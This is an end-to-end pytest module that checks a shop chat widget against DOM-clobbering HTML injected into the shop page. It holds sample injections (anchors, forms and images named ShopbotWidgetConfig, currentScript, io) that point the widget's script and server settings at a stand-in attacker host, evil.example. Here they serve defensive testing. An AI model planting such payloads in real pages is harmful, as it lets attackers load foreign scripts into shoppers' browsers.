"""Injected HTML on the shop page against the chat widget, in a real Chromium.

A shop page that shows text from elsewhere (reviews, a product description, a search term)
may end up with an attacker's HTML in it. Scripts in it do not run, but elements do get
names: an element with ``id="ShopbotWidgetConfig"`` becomes ``window.ShopbotWidgetConfig``
(a collection of two anchors even answers ``.socketioSrc`` with the second anchor's URL),
``<img name="currentScript">`` becomes ``document.currentScript``, ``<a id="io">`` becomes
``window.io``. None of that may make the widget load a script from another origin or talk
to another server, and the widget still works.

The page is served without its Content-Security-Policy here: the demo page's CSP would block
the foreign script as well, but most shop pages that embed the widget have none. Playwright
serves the altered page itself, and Chromium's local network access checks count a page
without a network address as public, blocking its calls to the Rasa server on 127.0.0.1:
this module's browser runs with those checks off (a real shop page comes from its server).
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from typing import TYPE_CHECKING, Any
from urllib.parse import urlsplit

import pytest

from shopbot.runtime import ServerProcess
from tests.e2e.conftest import Stack
from tests.e2e.web_fixtures import CHROMIUM_ARGS, ShopPage, _shop_page

if TYPE_CHECKING:
    from playwright.sync_api import Browser

pytestmark = pytest.mark.e2e

EVIL = "https://evil.example"
INJECTIONS = {
    "two-anchors": (
        f'<a id="ShopbotWidgetConfig" href="{EVIL}/x.js">Great boots!</a>'
        f'<a id="ShopbotWidgetConfig" name="socketioSrc" href="{EVIL}/x.js">deal</a>'
        f'<a id="ShopbotWidgetConfig" name="serverUrl" href="{EVIL}/">more</a>'
    ),
    "form": (
        '<form id="ShopbotWidgetConfig">'
        f'<input name="socketioSrc" value="{EVIL}/x.js"><input name="serverUrl" value="{EVIL}/">'
        "</form>"
    ),
    "current-script": (
        f'<img name="currentScript" alt="" data-socketio-src="{EVIL}/x.js" '
        f'data-server-url="{EVIL}/">'
    ),
    "io-and-widget-names": (
        f'<a id="io" href="{EVIL}/io.js">io</a>'
        '<form id="ShopbotWidget"><input name="version"></form>'
        '<img name="querySelectorAll" alt="">'
    ),
}


@pytest.fixture(scope="module")
def fulfilling_browser(browser: Browser) -> Iterator[Browser]:
    """A second Chromium of the session's Playwright, without local network access checks."""
    launched = browser.browser_type.launch(
        executable_path=shutil.which("chromium"),
        args=[*CHROMIUM_ARGS, "--disable-features=LocalNetworkAccessChecks"],
        headless=True,
    )
    try:
        yield launched
    finally:
        launched.close()


@pytest.fixture
def shop(fulfilling_browser: Browser, web: ServerProcess) -> Iterator[ShopPage]:
    """The shop page at desktop size, in the browser above."""
    with _shop_page(fulfilling_browser, web, phone=False) as shop_page:
        yield shop_page


def serve_with_injection(shop: ShopPage, html: str) -> None:
    """Serve the shop page with ``html`` injected into it, without its CSP."""

    def fulfil(route: Any) -> None:
        response = route.fetch()
        body = response.text().replace("<footer", f"<div class='review'>{html}</div><footer", 1)
        assert html in body
        headers = {
            name: value
            for name, value in response.headers.items()
            if name.lower() not in ("content-security-policy", "content-length")
        }
        route.fulfill(status=response.status, headers=headers, body=body)

    shop.page.route(shop.base_url + "/", fulfil)


def record_requests(shop: ShopPage) -> list[str]:
    """Every URL the page requests (WebSockets included); another origin's get a script
    that would set ``window.__evil``, so that loading it would show."""
    seen: list[str] = []
    shop.page.on("request", lambda request: seen.append(request.url))
    shop.page.on("websocket", lambda socket: seen.append(socket.url))
    shop.page.route(
        f"{EVIL}/**",
        lambda route: route.fulfill(
            status=200, content_type="text/javascript", body="window.__evil = 1;"
        ),
    )
    return seen


def origin(url: str) -> str:
    """scheme://host:port, with ws(s) counted as http(s)."""
    parts = urlsplit(url)
    scheme = {"ws": "http", "wss": "https"}.get(parts.scheme, parts.scheme)
    return f"{scheme}://{parts.netloc}"


@pytest.mark.parametrize("injection", list(INJECTIONS))
def test_injected_html_cannot_make_the_widget_load_from_elsewhere(
    stack: Stack, shop: ShopPage, injection: str
) -> None:
    serve_with_injection(shop, INJECTIONS[injection])
    requests = record_requests(shop)
    shop.open_shop()
    shop.open_chat()  # the socket.io client loads, the bot greets
    # Playwright's own selectors call document.querySelectorAll, which an injected
    # <img name="querySelectorAll"> hides: take it away now that the widget has started.
    shop.page.evaluate(
        "() => Array.from(document.getElementsByName('querySelectorAll')).forEach(e => e.remove())"
    )
    assert "assistant" in shop.bot_texts()[0]
    answer = shop.say("how long does shipping take?")
    assert any("business days" in text for text in answer), answer

    allowed = {origin(shop.base_url), origin(stack.rasa_url)}
    foreign = [
        url for url in requests if not url.startswith("data:") and origin(url) not in allowed
    ]
    assert foreign == [], foreign
    assert shop.page.evaluate("() => window.__evil") is None
    scripts = shop.page.evaluate("() => [...document.scripts].map((s) => s.src)")
    assert f"{shop.base_url}/vendor/socket.io.min.js" in scripts
    assert not any(src.startswith(EVIL) for src in scripts)
    assert shop.errors == []


def test_a_plain_config_object_still_configures_the_widget(stack: Stack, shop: ShopPage) -> None:
    # The page's own object literal wins over the tag's attributes, as documented; a
    # socket.io client on another origin is refused even from there.
    shop.context.add_init_script(
        f"window.ShopbotWidgetConfig = {{language: 'de', socketioSrc: '{EVIL}/io.js'}};"
    )
    requests = record_requests(shop)
    shop.open_shop()
    assert shop.launcher().get_attribute("aria-label") == "Chat öffnen"
    shop.open_chat()
    assert not any(url.startswith(EVIL) for url in requests), requests
    assert shop.errors == []
